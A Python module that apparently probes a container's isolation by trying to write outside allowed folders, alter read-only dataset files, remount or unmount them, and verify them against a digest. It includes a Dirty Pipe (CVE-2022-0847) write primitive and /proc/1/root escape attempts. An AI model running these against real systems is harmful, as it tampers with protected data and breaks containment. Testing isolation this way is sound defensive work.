"""Attempts to change datasets, and to write where nothing may be written."""

from __future__ import annotations

from typing import Any


def write_elsewhere(allowed: list[str]) -> Any:
    """Write a file into every folder that is not the container's own."""
    import os

    done, count = [], 0
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders.remove("proc")
        if folder in allowed:
            folders.clear()
            continue
        count += 1
        name = os.path.join(folder, f"doctor-was-here-{os.getpid()}")
        try:
            os.close(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            os.unlink(name)
            done.append(folder)
        except OSError:
            continue
    if not os.statvfs("/").f_flag & os.ST_RDONLY:
        done.append("the whole image")
    return {"tried": [f"{count} folders", "the whole image"], "done": done}


def change_files(folder: str, file: str, other: str) -> Any:
    """Change a dataset's files and folder in every way that the kernel has."""
    import ctypes
    import mmap
    import os
    import pathlib

    path, second, spare = f"{folder}/{file}", f"{folder}/{other}", f"{folder}/spare"
    writing = os.O_RDWR
    libc = ctypes.CDLL(None, use_errno=True)

    def through(name: str) -> None:
        os.close(os.open(name, writing))

    def by_descriptor() -> None:
        descriptor = os.open(path, os.O_RDONLY)
        through(f"/proc/self/fd/{descriptor}")

    def by_folder() -> None:
        os.close(os.open(other, writing, dir_fd=os.open(folder, os.O_PATH)))

    def over_itself() -> None:
        os.symlink("/etc/hostname", spare)
        os.replace(spare, second)

    def unnamed() -> None:
        descriptor = os.open(folder, os.O_TMPFILE | os.O_WRONLY)
        os.link(f"/proc/self/fd/{descriptor}", f"{folder}/unnamed", src_dir_fd=descriptor)

    def shared_memory() -> None:
        with mmap.mmap(os.open(path, writing), 0) as memory:
            memory[8] ^= 255

    def punched() -> None:
        if libc.fallocate(os.open(path, os.O_RDONLY), 3, ctypes.c_long(0), ctypes.c_long(64)) != 0:
            raise OSError

    def spliced() -> None:
        # CVE-2022-0847: what follows one spliced byte in a pipe is written into the file's page.
        reading = os.open(path, os.O_RDONLY)
        inner, outer = os.pipe()
        while os.write(outer, bytes(4096)) and len(os.read(inner, 4096)) < 4096:
            pass
        if libc.splice(reading, ctypes.byref(ctypes.c_long(31)), outer, None, 1, 0) != 1:
            raise OSError
        os.write(outer, b"spliced")
        if os.pread(reading, 7, 32) != b"spliced":
            raise OSError

    attempts: Any = {
        "create": lambda: pathlib.Path(f"{folder}/new").write_text("x"),
        "folder": lambda: os.mkdir(f"{folder}/sub"),
        "pipe": lambda: os.mkfifo(f"{folder}/pipe"),
        "unnamed file": unnamed,
        "open": lambda: through(path),
        "append": lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)),
        "shared memory": shared_memory,
        "punched hole": punched,
        "splice": spliced,
        "chmod": lambda: os.chmod(path, 0o766),
        "chmod of the folder": lambda: os.chmod(folder, 0o777),
        "chown": lambda: os.chown(path, os.getuid(), os.getgid()),
        "touch": lambda: os.utime(path, (1, 1)),
        "attribute": lambda: os.setxattr(path, "user.a", b"b"),
        "by descriptor": by_descriptor,
        "by folder": by_folder,
        "by own root": lambda: through(f"/proc/self/root{path}"),
        "by first process": lambda: through(f"/proc/1/root{path}"),
        "hard link": lambda: os.link(path, f"{folder}/hard"),
        "symbolic link": lambda: os.symlink("/etc", f"{folder}/soft"),
        "truncate": lambda: os.truncate(second, 3),
        "symbolic link over": over_itself,
        "rename": lambda: os.rename(path, f"{folder}/moved"),
        "unlink": lambda: os.unlink(second),
    }
    done = []
    for name, attempt in attempts.items():
        try:
            attempt()
            done.append(name)
        except OSError:
            continue
    return {"tried": list(attempts), "done": done}


def mount_over(folder: str) -> Any:
    """Mount something over a dataset, mount it anew, move it or take it away."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    bind, remount, move, recursive = 4096, 32, 8192, 16384
    place, own = folder.encode(), b"/tmp"
    calls = {
        "remount": (b"none", place, b"none", remount | bind),
        "remount of all": (b"none", b"/", b"none", remount | bind | recursive),
        "bind over": (own, place, b"none", bind),
        "bind away": (place, own, b"none", bind),
        "move": (place, own, b"none", move),
        "scratch over": (b"none", place, b"tmpfs", 0),
        "overlay": (b"none", place, b"overlay", 0),
    }
    done = [name for name, (a, b, c, d) in calls.items() if libc.mount(a, b, c, d, None) == 0]
    if libc.umount2(place, 2) == 0:
        done.append("unmount")
    return {"tried": [*calls, "unmount"], "done": done}


def compare_with_digest(folder: str, digest: str) -> Any:
    """Find a difference between what is mounted and what the snapshot's digest names."""
    import hashlib
    import json
    import os
    import pathlib

    manifest = pathlib.Path(f"{folder}/manifest.json").read_bytes()
    listed = {f["path"]: f["sha256"] for f in json.loads(manifest)["files"]}
    done = [] if hashlib.sha256(manifest).hexdigest() == digest else ["another manifest"]
    names = set(os.listdir(folder)) - {"manifest.json"}
    done += ["a file more or less"] if names != set(listed) else []
    there = {n: hashlib.sha256(pathlib.Path(f"{folder}/{n}").read_bytes()).hexdigest() for n in names & set(listed)}
    done += ["other bytes"] if any(listed[n] != digest for n, digest in there.items()) else []
    return {"tried": ["another manifest", "a file more or less", "other bytes"], "done": done}
